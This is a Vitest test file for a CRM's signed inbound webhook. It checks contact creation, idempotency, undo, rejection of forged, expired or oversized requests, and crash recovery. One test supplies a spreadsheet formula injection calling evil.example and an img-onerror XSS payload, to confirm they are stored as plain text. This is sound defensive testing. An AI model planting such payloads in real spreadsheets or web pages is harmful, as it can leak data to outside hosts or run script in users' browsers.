import { beforeEach, describe, expect, it } from 'vitest';
import { contacts, enrichments, interactions, journal, outbox } from '../../../src/crm/tables/index.ts';
import { admitRequest } from '../../../src/jobs/hooks/admit-request.ts';
import { receiveHook } from '../../../src/jobs/hooks/receive-hook.ts';
import { undoOperation } from '../../../src/jobs/operations/undo-operation.ts';
import type { Result } from '../../../src/result.ts';
import { recover } from '../../../src/sheet/index.ts';
import { killAt } from '../../ports/kill-at.ts';
import { createMemoryPorts, type MemoryPorts } from '../../ports/memory-ports.ts';
import { contactRow, rowsOf, smallCrm } from '../crm-workbook.ts';

const SECRET = 'a-secret-of-more-than-thirty-two-characters';

interface Sent {
  readonly id?: string;
  readonly timestamp?: number;
  readonly signature?: string;
}

/** The body that a scenario posts. */
function sign(ports: MemoryPorts, request: unknown, { id = 'request-0001', timestamp, signature }: Sent = {}): string {
  const payload = JSON.stringify(request);
  const at = timestamp ?? Math.floor(ports.clock.now().getTime() / 1000);
  const right = ports.signer.hmacSha256(`${at}.${id}.${payload}`, SECRET);
  return JSON.stringify({ payload, timestamp: at, id, signature: signature ?? right });
}

function post(ports: MemoryPorts, body: string): Result<unknown> {
  const admitted = admitRequest(ports, body);
  return admitted.ok ? receiveHook(ports, admitted.value) : admitted;
}

const code = (result: Result<unknown>) => (result.ok ? 'ok' : result.error.code);

const BASTIEN = {
  action: 'contact.upsert',
  contact: { email: 'bastien.morel@ruchelle.example', firstName: 'Bastien', lastName: 'Morel', company: 'Ruchelle' },
};
const CALL = {
  action: 'interaction.log',
  interaction: { email: 'claire.vasseur@valmarais.example', type: 'Appel', summary: 'Budget voté.' },
};

describe('the inbound web hook', () => {
  let ports: MemoryPorts;

  beforeEach(() => {
    ports = smallCrm();
    ports.world.secrets.set('inbound', SECRET);
  });

  it('creates a contact, once, and answers the same to the same request', () => {
    ports.world.secrets.set('slack', 'https://hooks.slack.com/services/T000/B000/invented');
    const body = sign(ports, BASTIEN);
    const first = post(ports, body);
    expect(first).toMatchObject({ ok: true, value: { result: 'created' } });
    ports.gate.reset();
    expect(post(ports, body)).toEqual(first);
    expect(ports.gate.calls.some(({ name }) => name === 'workbook.write' || name === 'workbook.appendRow')).toBe(false);
    const made = rowsOf(ports, contacts).filter(({ lastName }) => lastName === 'Morel');
    expect(made).toHaveLength(1);
    expect(made[0]).toMatchObject({ source: 'Site web', stage: 'Lead' });
    expect(rowsOf(ports, outbox).map(({ event }) => event)).toEqual(['Contact reçu par un crochet web']);
  });

  it('fills blanks of a known contact, says where from, and keeps what was typed', () => {
    const email = 'nadia.cherif@melisse.example';
    const request = { action: 'contact.upsert', contact: { email, lastName: 'Autre', position: 'Directrice RSE' } };
    expect(post(ports, sign(ports, request))).toMatchObject({
      ok: true,
      value: { contactId: 'CT-NADIA1', result: 'completed', kept: ['Nom'] },
    });
    expect(contactRow(ports, 'CT-NADIA1')).toMatchObject({ lastName: 'Cherif', position: 'Directrice RSE' });
    expect(rowsOf(ports, enrichments)).toMatchObject([
      { source: 'Crochet web', field: 'Poste', reference: 'request-0001' },
    ]);
  });

  it('logs an exchange once, even when the memory of answers is lost', () => {
    expect(post(ports, sign(ports, CALL))).toMatchObject({ ok: true, value: { contactId: 'CT-CLAIRE' } });
    ports.world.store.clear();
    expect(post(ports, sign(ports, CALL))).toMatchObject({ ok: true, value: { result: 'logged' } });
    expect(rowsOf(ports, interactions)).toHaveLength(1);
    expect(code(post(ports, sign(ports, CALL, { id: 'request-0002' })))).toBe('ok');
    expect(rowsOf(ports, interactions)).toHaveLength(2);
  });

  it('can be undone from the journal', () => {
    post(ports, sign(ports, BASTIEN));
    const sealed = rowsOf(ports, journal).find(({ state }) => state === 'Fait');
    const undone = undoOperation(ports, { operation: String(sealed?.operation) });
    expect(undone).toMatchObject({ ok: true, value: { kept: [] } });
    expect(rowsOf(ports, contacts).some(({ lastName }) => lastName === 'Morel')).toBe(false);
  });

  it.each([
    ['no secret', (p: MemoryPorts) => withoutSecret(p, sign(p, BASTIEN)), 'hook.closed'],
    ['another secret', (p: MemoryPorts) => sign(p, BASTIEN, { signature: 'a'.repeat(64) }), 'hook.signature'],
    ['a short signature', (p: MemoryPorts) => sign(p, BASTIEN, { signature: 'abc' }), 'hook.envelope'],
    ['an old message', (p: MemoryPorts) => sign(p, BASTIEN, { timestamp: seconds(p) - 301 }), 'hook.expired'],
    ['a message of tomorrow', (p: MemoryPorts) => sign(p, BASTIEN, { timestamp: seconds(p) + 301 }), 'hook.expired'],
    ['51 KB', (p: MemoryPorts) => sign(p, { ...BASTIEN, pad: 'x'.repeat(51_200) }), 'hook.too-large'],
    ['no JSON', () => 'payload=1', 'hook.envelope'],
    ['nothing', () => '', 'hook.envelope'],
    ['an unknown action', (p: MemoryPorts) => sign(p, { action: 'contacts.delete' }), 'hook.request'],
    ['an unknown field', (p: MemoryPorts) => sign(p, { ...BASTIEN, extra: 1 }), 'hook.request'],
    [
      'no e-mail address',
      (p: MemoryPorts) => sign(p, { action: 'contact.upsert', contact: { email: 'nobody' } }),
      'contact.refused',
    ],
    [
      'an exchange with nobody',
      (p: MemoryPorts) =>
        sign(p, { action: 'interaction.log', interaction: { ...CALL.interaction, email: 'x@y.example' } }),
      'contact.unknown',
    ],
  ])('refuses %s, and writes nothing', (_what, bodyOf, expected) => {
    const body = bodyOf(ports);
    const before = JSON.stringify(rowsOf(ports, contacts));
    expect(code(post(ports, body))).toBe(expected);
    expect(JSON.stringify(rowsOf(ports, contacts))).toBe(before);
  });

  it('refuses its own outgoing messages sent back', () => {
    const payload = JSON.stringify(BASTIEN);
    const timestamp = seconds(ports);
    const signature = ports.signer.hmacSha256(`out.${timestamp}.request-0001.${payload}`, SECRET);
    expect(code(post(ports, JSON.stringify({ payload, timestamp, id: 'request-0001', signature })))).toBe(
      'hook.signature',
    );
  });

  it('leaves alone whoever objected', () => {
    ports.book.put('CONTACTS', 4, contacts.columns.findIndex(({ key }) => key === 'email') + 1, [
      ['paul@vassal.example'],
    ]);
    const request = { action: 'contact.upsert', contact: { email: 'paul@vassal.example', position: 'Maire' } };
    expect(code(post(ports, sign(ports, request)))).toBe('contact.refused');
  });

  it('stores formulas and markup as the texts they are', () => {
    const hostile = {
      ...BASTIEN.contact,
      firstName: '=IMPORTXML("https://evil.example")',
      position: '<img onerror=alert(1)>',
    };
    expect(code(post(ports, sign(ports, { ...BASTIEN, contact: hostile })))).toBe('ok');
    const row = rowsOf(ports, contacts).find(({ lastName }) => lastName === 'Morel');
    expect(row).toMatchObject({ firstName: hostile.firstName, position: hostile.position });
  });

  it.each([
    ['a contact', BASTIEN],
    ['an exchange', CALL],
  ])('takes in %s exactly once, wherever a run dies', (_what, request) => {
    const whole = fresh();
    whole.gate.reset();
    post(whole, sign(whole, request));
    const calls = whole.gate.calls.length;
    const outcome = counts(whole);
    for (let dies = 0; dies < calls * 2; dies += 1) {
      const dying = fresh();
      killAt(dying, Math.floor(dies / 2), dies % 2 === 0 ? 'before' : 'after');
      try {
        post(dying, sign(dying, request));
      } catch {
        // Dead before it could answer: the other tool sends it again.
      }
      dying.world.lock.holder = null;
      const next = createMemoryPorts({ seed: 7 }, dying.world);
      expect(recover(next).ok).toBe(true);
      expect(code(post(next, sign(next, request)))).toBe('ok');
      expect(counts(next)).toEqual(outcome);
    }
  });
});

function fresh(): MemoryPorts {
  const ports = smallCrm();
  ports.world.secrets.set('inbound', SECRET);
  return ports;
}

const counts = (ports: MemoryPorts) => [contacts, interactions].map((table) => rowsOf(ports, table).length);

const seconds = (ports: MemoryPorts) => Math.floor(ports.clock.now().getTime() / 1000);

function withoutSecret(ports: MemoryPorts, body: string): string {
  ports.world.secrets.delete('inbound');
  return body;
}
